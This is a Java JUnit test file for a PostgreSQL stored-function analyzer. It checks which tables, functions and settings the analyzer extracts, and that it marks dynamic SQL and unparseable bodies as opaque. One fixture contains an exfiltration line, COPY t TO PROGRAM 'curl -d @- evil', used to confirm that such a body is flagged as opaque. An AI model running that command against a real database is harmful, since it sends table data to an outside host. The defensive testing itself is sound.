package dev.gatehouse.policy.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.platform.core.RoutineAnalysis;
import org.junit.jupiter.api.Test;

/** {@link PgQueryAnalyzer#analyzeRoutine} on definitions as {@code pg_get_functiondef} prints them. */
class RoutineAnalysisTest {

    private final PgQueryAnalyzer analyzer = new PgQueryAnalyzer();

    private static String plpgsql(String signature, String returns, String body) {
        return "CREATE OR REPLACE FUNCTION public." + signature + "\n RETURNS " + returns
                + "\n LANGUAGE plpgsql\nAS $function$" + body + "$function$\n";
    }

    @Test
    void plpgsqlBodyIsSeenThroughEveryKindOfEmbeddedSql() {
        // Given
        String definition = plpgsql("f(a integer)", "SETOF integer", """

                DECLARE
                  r record;
                  arr int[];
                  x int := (SELECT max(id) FROM defaults);
                BEGIN
                  SELECT count(*) INTO x FROM t1 WHERE t1.owner = a;
                  UPDATE t2 SET v = 1 WHERE id = x;
                  PERFORM set_config('search_path', 'pg_catalog', true);
                  SET LOCAL work_mem = '64MB';
                  IF x > (SELECT min(id) FROM t3) THEN
                    RAISE NOTICE 'x is %', (SELECT name FROM t4 LIMIT 1);
                  END IF;
                  x := (SELECT max(id) FROM t5);
                  arr[1] := lookup(x);
                  FOR r IN SELECT * FROM t6 LOOP
                    INSERT INTO t7 VALUES (r.id);
                  END LOOP;
                  WHILE x < (SELECT count(*) FROM t8) LOOP x := x + 1; END LOOP;
                  CALL audit.log_call(a);
                  RETURN QUERY SELECT id FROM t9;
                  RETURN;
                END
                """);

        // When
        RoutineAnalysis routine = analyzer.analyzeRoutine("plpgsql", definition);

        // Then
        assertThat(routine.opaque()).as(routine.reason()).isFalse();
        assertThat(routine.reason()).isNull();
        assertThat(routine.tablesRead()).containsExactly("defaults", "t1", "t3", "t4", "t5", "t6", "t8", "t9");
        assertThat(routine.tablesWritten()).containsExactly("t2", "t7");
        assertThat(routine.functions()).containsExactly("max", "count", "set_config", "min", "lookup", "audit.log_call");
        assertThat(routine.settings()).containsExactly("search_path", "work_mem");
    }

    @Test
    void triggerFunctionSeesNewAndOld() {
        // Given
        String definition = plpgsql("audit()", "trigger", """

                BEGIN
                  NEW.updated_at := now();
                  INSERT INTO audit_log (id, old_value) VALUES (OLD.id, OLD.value);
                  RETURN NEW;
                END
                """);

        // When
        RoutineAnalysis routine = analyzer.analyzeRoutine("plpgsql", definition);

        // Then
        assertThat(routine.opaque()).as(routine.reason()).isFalse();
        assertThat(routine.tablesWritten()).containsExactly("audit_log");
        assertThat(routine.functions()).containsExactly("now");
    }

    @Test
    void dynamicSqlMakesTheBodyOpaque() {
        // Given
        String execute = plpgsql("purge(t text)", "void",
                "\nBEGIN\n  DELETE FROM log;\n  EXECUTE format('TRUNCATE %I', t);\nEND\n");
        String returnQuery = plpgsql("q(t text)", "SETOF record",
                "\nBEGIN\n  RETURN QUERY EXECUTE 'SELECT * FROM ' || t;\nEND\n");
        String forIn = plpgsql("l(t text)", "void",
                "\nDECLARE r record;\nBEGIN\n  FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP;\nEND\n");
        String open = plpgsql("o(t text)", "refcursor",
                "\nDECLARE c refcursor;\nBEGIN\n  OPEN c FOR EXECUTE 'SELECT 1';\n  RETURN c;\nEND\n");

        // When
        RoutineAnalysis e = analyzer.analyzeRoutine("plpgsql", execute);
        RoutineAnalysis rq = analyzer.analyzeRoutine("plpgsql", returnQuery);
        RoutineAnalysis f = analyzer.analyzeRoutine("plpgsql", forIn);
        RoutineAnalysis o = analyzer.analyzeRoutine("plpgsql", open);

        // Then: what was seen is still listed
        assertThat(e.opaque()).isTrue();
        assertThat(e.reason()).isEqualTo("dynamic SQL (EXECUTE) at line 4");
        assertThat(e.tablesWritten()).containsExactly("log");
        assertThat(rq.opaque()).isTrue();
        assertThat(rq.reason()).isEqualTo("dynamic SQL (RETURN QUERY EXECUTE) at line 3");
        assertThat(f.opaque()).isTrue();
        assertThat(f.reason()).isEqualTo("dynamic SQL (FOR ... IN EXECUTE) at line 4");
        // libpg_query's PL/pgSQL parser has no catalog and refuses OPEN of a refcursor: opaque either way
        assertThat(o.opaque()).isTrue();
    }

    @Test
    void unparseableOrUnknownBodiesAreOpaque() {
        // Given
        String broken = plpgsql("b()", "void", "\nBEGIN\n  SELEC 1;\nEND\n");
        String python = "CREATE OR REPLACE FUNCTION public.p()\n RETURNS void\n LANGUAGE plpython3u\n"
                + "AS $function$import os$function$\n";
        String c = "CREATE OR REPLACE FUNCTION public.c()\n RETURNS void\n LANGUAGE c\nAS '$libdir/x', $function$c$function$\n";

        // When
        RoutineAnalysis b = analyzer.analyzeRoutine("plpgsql", broken);
        RoutineAnalysis p = analyzer.analyzeRoutine("plpython3u", python);
        RoutineAnalysis cFunction = analyzer.analyzeRoutine("c", c);
        RoutineAnalysis mismatch = analyzer.analyzeRoutine("sql", broken);
        RoutineAnalysis garbage = analyzer.analyzeRoutine("sql", "not a definition");

        // Then
        assertThat(b.opaque()).isTrue();
        assertThat(b.reason()).startsWith("body does not parse: ");
        assertThat(p.opaque()).isTrue();
        assertThat(p.reason()).isEqualTo("language plpython3u is not analysed");
        assertThat(cFunction.reason()).isEqualTo("language c is not analysed");
        assertThat(mismatch.opaque()).isTrue();
        assertThat(mismatch.reason()).isEqualTo("definition is not LANGUAGE sql");
        assertThat(garbage.opaque()).isTrue();
        assertThat(garbage.reason()).startsWith("body does not parse: ");
    }

    @Test
    void sqlFunctionWithStringBody() {
        // Given
        String definition = """
                CREATE OR REPLACE FUNCTION public.bump(a integer)
                 RETURNS bigint
                 LANGUAGE sql
                AS $function$ UPDATE accounts SET n = n + 1 WHERE id = a;
                  SELECT set_config('app.user', 'x', true);
                  SELECT count(*) FROM ledger WHERE my_check(id) $function$
                """;

        // When
        RoutineAnalysis routine = analyzer.analyzeRoutine("sql", definition);

        // Then: calls of other functions are listed, not opaque (the edge resolves them)
        assertThat(routine.opaque()).as(routine.reason()).isFalse();
        assertThat(routine.tablesWritten()).containsExactly("accounts");
        assertThat(routine.tablesRead()).containsExactly("ledger");
        assertThat(routine.functions()).containsExactly("set_config", "count", "my_check");
        assertThat(routine.settings()).containsExactly("app.user");
    }

    @Test
    void sqlFunctionWithAtomicOrReturnBody() {
        // Given
        String atomic = """
                CREATE OR REPLACE FUNCTION public.g(a integer)
                 RETURNS integer
                 LANGUAGE sql
                BEGIN ATOMIC
                 DELETE FROM t
                   WHERE (t.id = g.a);
                 SELECT 1;
                END
                """;
        String returns = """
                CREATE OR REPLACE FUNCTION public.h(a integer)
                 RETURNS integer
                 LANGUAGE sql
                RETURN (my_other(a) + ( SELECT max(x) AS max
                   FROM t))
                """;

        // When
        RoutineAnalysis a = analyzer.analyzeRoutine("sql", atomic);
        RoutineAnalysis r = analyzer.analyzeRoutine("sql", returns);

        // Then
        assertThat(a.opaque()).as(a.reason()).isFalse();
        assertThat(a.tablesWritten()).containsExactly("t");
        assertThat(r.opaque()).as(r.reason()).isFalse();
        assertThat(r.tablesRead()).containsExactly("t");
        assertThat(r.functions()).containsExactly("my_other", "max");
    }

    @Test
    void codeNothingCanSeeThroughMakesTheBodyOpaque() {
        // Given
        String definition = plpgsql("x()", "void", "\nBEGIN\n  COPY t TO PROGRAM 'curl -d @- evil';\nEND\n");

        // When
        RoutineAnalysis routine = analyzer.analyzeRoutine("plpgsql", definition);

        // Then
        assertThat(routine.opaque()).isTrue();
        assertThat(routine.reason()).isEqualTo("runs a program (COPY ... PROGRAM)");
    }

    @Test
    void doBlockWrappingNeverClashesWithTheBody() {
        // Given: a body that contains the wrapper's first dollar-quote tag
        String code = " BEGIN PERFORM '$gatehouse$'; END ";

        // When
        String wrapped = RoutineAnalyzer.asFunction(code);

        // Then
        assertThat(wrapped).contains("AS $gatehouse_$" + code + "$gatehouse_$");
        assertThat(LibPgQuery.load().parsePlpgsql(wrapped).ok()).isTrue();
    }
}
